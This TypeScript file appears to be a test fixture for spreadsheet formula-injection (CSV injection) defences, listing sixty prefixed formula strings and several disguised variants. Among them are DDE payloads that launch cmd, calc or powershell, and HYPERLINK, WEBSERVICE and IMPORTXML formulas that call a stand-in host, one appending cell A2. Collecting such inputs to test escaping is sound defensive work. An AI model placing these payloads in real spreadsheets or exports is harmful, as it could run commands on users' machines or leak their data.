/** Texts that a spreadsheet program would run, or hand to another program, if it took them for formulas. */
const calls = [
  '1+1', '2*21', 'SUM(1;2)', "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example.org/?"&A2;"klik")',
  'WEBSERVICE("http://x.example.org")', 'IMPORTXML("http://x.example.org";"//a")', 'DDE("cmd";"/C calc";"x")',
  '1+cmd|\' /C powershell\'!A0', 'SUM(1+9)*cmd|\' /C calc\'!A0',
]; // biome-ignore format: a list of words

/** Sixty of them: ten calls, each begun in six ways. */
export const formulas: readonly string[] = calls.flatMap((call) => [
  `=${call}`,
  `+${call}`,
  `-${call}`,
  `@${call}`,
  `＝${call}`,
  `\u2003=${call}`,
]);

/** The same dangers on another line, behind a tab or a bar, or in small and full-width signs. */
export const hiddenFormulas: readonly string[] = [
  'regel\n=1+1', '\t=1+1', '\t1+1', '|calc', '＋1', '－1', '＠SUM(1)', '｜calc', '﹢1', '\u00a0=1', '\u200b=1', '\ufeff=1',
  'a\n\n-b', '=', '-',
]; // biome-ignore format: a list of words
